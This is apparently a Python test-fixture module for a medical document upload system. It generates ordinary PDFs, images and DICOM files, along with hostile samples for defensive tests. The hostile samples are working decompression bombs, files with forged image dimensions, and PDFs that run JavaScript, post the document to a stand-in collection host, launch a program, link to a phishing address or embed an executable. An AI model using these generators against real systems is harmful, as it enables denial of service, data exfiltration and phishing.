"""Real files generated for tests: PDFs, images and DICOM, never fixtures on disk."""

import io
import itertools

from PIL import Image
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid
from pypdf import PdfWriter

MR_IMAGE_STORAGE = "1.2.840.10008.5.1.4.1.1.4"


_serial = itertools.count(1)


def pdf_bytes(pages=3, password=None):
    """A blank PDF of `pages` A4 pages, each call's bytes different (a serial in its metadata),
    as two real documents are: a referral keeps one copy of the same file (by SHA-256)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Subject": f"Synthetic test document {next(_serial)}"})
    if password:
        writer.encrypt(user_password=password, owner_password="owner-secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt, size=(64, 48)):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=fmt)
    return out.getvalue()


def mr_dataset(*, study_date: str, description: str) -> Dataset:
    """A minimal MR image dataset with its file meta; callers add sizes and pixel data."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = MR_IMAGE_STORAGE
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds = Dataset()
    ds.file_meta = meta
    ds.SOPClassUID = MR_IMAGE_STORAGE
    ds.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    ds.Modality = "MR"
    ds.StudyDate = study_date
    ds.StudyDescription = description
    return ds


def dicom_bytes(preamble=True):
    ds = mr_dataset(study_date="20240115", description="MRI LUMBAR SPINE")
    ds.Rows = 256
    ds.Columns = 192
    out = io.BytesIO()
    if preamble:
        ds.save_as(out, enforce_file_format=True)
    else:
        # Just the dataset, no preamble or "DICM": how some old systems export.
        ds.save_as(out, implicit_vr=False, little_endian=True)
    return out.getvalue()


def noisy_pdf_bytes(side=700) -> bytes:
    """A real one-page PDF of a few hundred KB (a noisy image compresses badly): for progress."""
    import os

    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    out = io.BytesIO()
    image.save(out, format="PDF", quality=95)
    return out.getvalue()


def dicom_image_bytes(side=64) -> bytes:
    """A DICOM MR image with real 16-bit pixel data (a gradient), for the packet's frame."""
    ds = mr_dataset(study_date="20261120", description="MRI THORACOLUMBAR SPINE")
    ds.StudyTime = "093015.25"
    ds.Rows = side
    ds.Columns = side
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.BitsAllocated = 16
    ds.BitsStored = 12
    ds.HighBit = 11
    ds.PixelRepresentation = 0
    ds.PixelData = b"".join(
        ((x * 64 + y * 8) % 4096).to_bytes(2, "little") for y in range(side) for x in range(side)
    )
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


# --- hostile files, built by hand (tests/test_hostile_files.py) ----------------------------------

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf_stream(data: bytes, *, filters=(), extra: bytes = b"") -> bytes:
    """A stream object's body: dictionary, then the (already encoded) data."""
    names = b" ".join(b"/" + f.encode() for f in filters)
    filter_entry = b" /Filter [%s]" % names if filters else b""
    return b"<< /Length %d%s%s >>\nstream\n%s\nendstream" % (len(data), filter_entry, extra, data)


def one_page_objects(contents: bytes = b"") -> list[bytes]:
    """Catalog, page tree, one A4 page and its content stream: objects 1 to 4."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        contents or pdf_stream(b"BT /F1 12 Tf 72 770 Td (Hello) Tj ET"),
    ]


def assemble_pdf(
    objects: list[bytes],
    *,
    header: bytes = PDF_HEADER,
    prev_self: bool = False,
    after_eof: bytes = b"",
) -> bytes:
    """A PDF of `objects` (numbered from 1; 1 is the catalog) with a correct xref table.

    prev_self: the trailer's /Prev points at its own xref table (a circular cross-reference).
    after_eof: bytes appended after %%EOF.
    """
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    prev = b" /Prev %d" % xref if prev_self else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        prev,
        xref,
    )
    return bytes(out + after_eof)


def deflated_zeros(megabytes: int, prefix: bytes = b"") -> bytes:
    """A zlib stream that inflates to `prefix` then `megabytes` MB of NUL bytes, made in
    milliseconds: after a full flush deflate repeats the same bytes for each zero megabyte."""
    import struct
    import zlib

    compressor = zlib.compressobj(9)
    start = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of prefix + n zeros: the low sum stays, the high sum grows by n * low.
    checksum = zlib.adler32(prefix)
    low, high = checksum & 0xFFFF, checksum >> 16
    high = (high + (megabytes << 20) * low) % 65521
    final_empty_block = b"\x03\x00"
    return start + block * megabytes + final_empty_block + struct.pack(">I", (high << 16) | low)


def nested_flate(data: bytes, layers: int) -> bytes:
    """Deflate already-deflated data `layers` more times."""
    import zlib

    for _ in range(layers):
        data = zlib.compress(data, 9)
    return data


def flate_bomb_pdf(megabytes: int = 1024, layers: int = 3) -> bytes:
    """One page whose content stream is Flate inside Flate inside Flate: a few KB on disk that
    inflates to `megabytes` MB (of whitespace, to a PDF parser)."""
    data = nested_flate(deflated_zeros(megabytes), layers - 1)
    return assemble_pdf(one_page_objects(pdf_stream(data, filters=["FlateDecode"] * layers)))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose IHDR claims width x height (valid CRCs) with one tiny IDAT: nothing like
    the pixels it claims."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def zip_bytes(files: dict[str, bytes]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def pe_stub(size: int = 1024) -> bytes:
    """The start of a Windows program: "MZ", e_lfanew pointing at a "PE\\0\\0" header."""
    import struct

    header = bytearray(size)
    header[:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    header[0x80:0x84] = b"PE\0\0"
    return bytes(header)


def dicom_with_preamble(preamble: bytes) -> bytes:
    """A real DICOM file whose 128-byte preamble is `preamble` (padded with NULs)."""
    data = dicom_bytes()
    return preamble[:128].ljust(128, b"\0") + data[128:]


def object_stream_bomb_pdf(pages: int = 10, megabytes: int = 70) -> bytes:
    """A PDF whose page objects each sit in an object stream (Flate inside Flate) that inflates
    to `megabytes` MB: counting the pages means inflating them all. A few KB on disk; minutes
    and gigabytes for an unbounded reader. Cross-references are a stream, as object streams need.
    """
    import struct

    out = bytearray(PDF_HEADER)
    entries = {}  # object number -> (type, field 2, field 3) of its cross-reference entry

    def add(number: int, body: bytes) -> None:
        entries[number] = (1, len(out), 0)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    page_numbers = [3 + 2 * i for i in range(pages)]
    kids = b" ".join(b"%d 0 R" % n for n in page_numbers)
    add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(2, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages))
    for page in page_numbers:
        index = b"%d 0 " % page
        body = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> "
        data = nested_flate(deflated_zeros(megabytes, prefix=index + body), 1)
        extra = b" /Type /ObjStm /N 1 /First %d" % len(index)
        add(page + 1, pdf_stream(data, filters=["FlateDecode"] * 2, extra=extra))
        entries[page] = (2, page + 1, 0)
    size = 3 + 2 * pages + 1
    xref_offset = len(out)
    entries[size - 1] = (1, xref_offset, 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(n, (0, 0, 0xFFFF))) for n in range(size))
    extra = b" /Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % size
    out.extend(b"%d 0 obj\n%s\nendobj\n" % (size - 1, pdf_stream(rows, extra=extra)))
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    return bytes(out)


def image_bomb_pdf(megabytes: int = 1024) -> bytes:
    """One page showing an image XObject whose data is Flate inside Flate inflating to
    `megabytes` MB: harmless to pypdf's page handling, a hang for the PDF viewer that draws it."""
    side = int((megabytes * (1 << 20) // 3) ** 0.5)
    image = pdf_stream(
        nested_flate(deflated_zeros(megabytes), 1),
        filters=["FlateDecode", "FlateDecode"],
        extra=b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB"
        b" /BitsPerComponent 8" % (side, side),
    )
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /XObject << /Im1 5 0 R >> >> >>",
            pdf_stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"),
            image,
        ]
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is edited to claim width x height."""
    import struct

    data = bytearray(image_bytes("JPEG", size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


# --- active content (tests/test_hostile_files.py): what a PDF can do in the IR's viewer ----------


def _pikepdf_document(texts: list[str]):
    """A pikepdf document with one A4 page per text, each page showing its text."""
    import pikepdf
    from pikepdf import Dictionary, Name

    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for text in texts:
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 14 Tf 72 770 Td (%s) Tj ET" % text.encode())
    return pdf


def _saved(pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _script(code: str):
    from pikepdf import Dictionary, Name, String

    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def scripted_pdf() -> bytes:
    """JavaScript when the document opens (/OpenAction, with a second script chained by
    /Next), two document-level scripts in the /Names JavaScript tree, and one on closing."""
    from pikepdf import Array, Dictionary, String

    pdf = _pikepdf_document(["Scripted letter"])
    opening = _script("app.alert('opened')")
    opening.Next = _script("this.exportDataObject({cName: 'x', nLaunch: 2})")
    pdf.Root.OpenAction = pdf.make_indirect(opening)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array(
                [
                    String("a"),
                    pdf.make_indirect(_script("app.launchURL('https://x.example')")),
                    String("b"),
                    pdf.make_indirect(_script("app.beep(0)")),
                ]
            )
        )
    )
    pdf.Root.AA = Dictionary(WC=_script("app.alert('closing')"))
    return _saved(pdf)


def page_actions_pdf() -> bytes:
    """A page that runs JavaScript when shown and posts the document to a web address when
    closed (page /AA)."""
    from pikepdf import Dictionary, Name, String

    pdf = _pikepdf_document(["Page actions letter"])
    submit = Dictionary(
        S=Name.SubmitForm,
        F=Dictionary(FS=Name.URL, F=String("https://collect.example/submit")),
        Flags=4,
    )
    pdf.pages[0].obj.AA = Dictionary(O=_script("app.alert('shown')"), C=submit)
    return _saved(pdf)


def linked_pdf() -> bytes:
    """Two pages. Page 1 has links that run JavaScript, launch a program and open a web
    address, and two internal links to page 2 (a GoTo action and a /Dest). The outline has a
    bookmark to page 2 and one that opens a web address."""
    from pikepdf import Array, Dictionary, Name, String

    pdf = _pikepdf_document(["Linked letter page one", "Linked letter page two"])
    second = pdf.pages[1].obj

    def link(y: int, **entries):
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[72, y, 300, y + 20],
                Border=[0, 0, 0],
                **entries,
            )
        )

    pdf.pages[0].obj.Annots = Array(
        [
            link(700, A=_script("app.alert('clicked')")),
            link(670, A=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))),
            link(640, A=Dictionary(S=Name.URI, URI=String("https://phish.example/login"))),
            link(610, A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))),
            link(580, Dest=Array([second, Name.Fit])),
        ]
    )
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    to_page = pdf.make_indirect(
        Dictionary(
            Title=String("Results"),
            Parent=outlines,
            A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit])),
        )
    )
    to_web = pdf.make_indirect(
        Dictionary(
            Title=String("Portal"),
            Parent=outlines,
            Prev=to_page,
            A=Dictionary(S=Name.URI, URI=String("https://phish.example/")),
        )
    )
    to_page.Next = to_web
    outlines.First, outlines.Last, outlines.Count = to_page, to_web, 2
    pdf.Root.Outlines = outlines
    return _saved(pdf)


def attachment_pdf() -> bytes:
    """A file-attachment annotation carrying a program, an /EmbeddedFiles name tree with
    another file, and the same file again as an associated file (/AF) of the document."""
    from pikepdf import Array, Dictionary, Name, String

    pdf = _pikepdf_document(["Letter with attachments"])

    def filespec(name: str, data: bytes):
        stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec,
                F=String(name),
                UF=String(name),
                EF=Dictionary(F=stream, UF=stream),
            )
        )

    program = filespec("invoice.exe", b"MZ" + bytes(64))
    sheet = filespec("results.xlsm", b"PK\x03\x04 macro sheet")
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=[72, 700, 92, 720],
                    FS=program,
                    Name=Name.Paperclip,
                    Contents=String("Open me"),
                )
            )
        ]
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("r"), sheet])))
    pdf.Root.AF = Array([sheet])
    return _saved(pdf)


def form_pdf() -> bytes:
    """An AcroForm with a filled-in text field that runs JavaScript on each keystroke (/AA),
    and an XFA form beside it."""
    from pikepdf import Array, Dictionary, Name, String

    pdf = _pikepdf_document(["Referral form"])
    page = pdf.pages[0].obj
    font = page.Resources.Font.F1
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("patient"),
            V=String("Joan Sample"),
            DA=String("/Helv 11 Tf 0 g"),
            F=4,
            Rect=[72, 700, 320, 720],
            P=page,
            AA=Dictionary(K=_script("event.value = event.value.toUpperCase()")),
        )
    )
    page.Annots = Array([field])
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DA=String("/Helv 11 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=font)),
        XFA=xfa,
    )
    return _saved(pdf)


def media_pdf() -> bytes:
    """A RichMedia (Flash) annotation, a 3D annotation and a Screen annotation that plays a
    rendition."""
    from pikepdf import Array, Dictionary, Name, String

    pdf = _pikepdf_document(["Letter with media"])
    page = pdf.pages[0].obj
    swf = pdf.make_stream(b"FWS\x0a" + bytes(32), Type=Name.EmbeddedFile)
    asset = Dictionary(Type=Name.Filespec, F=String("player.swf"), EF=Dictionary(F=swf))
    rich = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=[72, 600, 300, 700],
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("player.swf"), asset]))),
    )
    u3d = pdf.make_stream(b"U3D\x00" + bytes(32), Type=Name("/3D"), Subtype=Name.U3D)
    model = Dictionary(
        Type=Name.Annot, Subtype=Name("/3D"), Rect=[72, 480, 300, 580], **{"/3DD": u3d}
    )
    screen = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Screen,
        Rect=[72, 360, 300, 460],
        A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert('media')")),
    )
    page.Annots = Array([pdf.make_indirect(a) for a in (rich, model, screen)])
    return _saved(pdf)


def owner_locked_pdf() -> bytes:
    """A PDF that opens without a password but whose owner password forbids copying,
    printing and changes (AES-256)."""
    import pikepdf

    pdf = _pikepdf_document(["Locked letter"])
    allow = pikepdf.Permissions(
        extract=False,
        modify_other=False,
        print_highres=False,
        print_lowres=False,
        modify_form=False,
        modify_annotation=False,
    )
    return _saved(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=allow))


def many_pages_pdf(pages: int, *, per_node: int = 100) -> bytes:
    """A real page tree of `pages` pages (its /Count and /Kids agree), all sharing one content
    stream, with the objects packed into compressed object streams: 20 000 pages take about
    200 KB."""
    import pikepdf

    nodes = -(-pages // per_node)
    first_node, first_page = 4, 4 + nodes
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>"
        % (b" ".join(b"%d 0 R" % (first_node + n) for n in range(nodes)), pages),
        pdf_stream(b"BT /F1 12 Tf 72 770 Td (One of many pages) Tj ET"),
    ]
    for n in range(nodes):
        count = min(per_node, pages - n * per_node)
        kids = b" ".join(b"%d 0 R" % (first_page + n * per_node + i) for i in range(count))
        objects.append(b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (kids, count))
    objects += [
        b"<< /Type /Page /Parent %d 0 R /Contents 3 0 R >>" % (first_node + p // per_node)
        for p in range(pages)
    ]
    pdf = pikepdf.open(io.BytesIO(assemble_pdf(objects)))
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
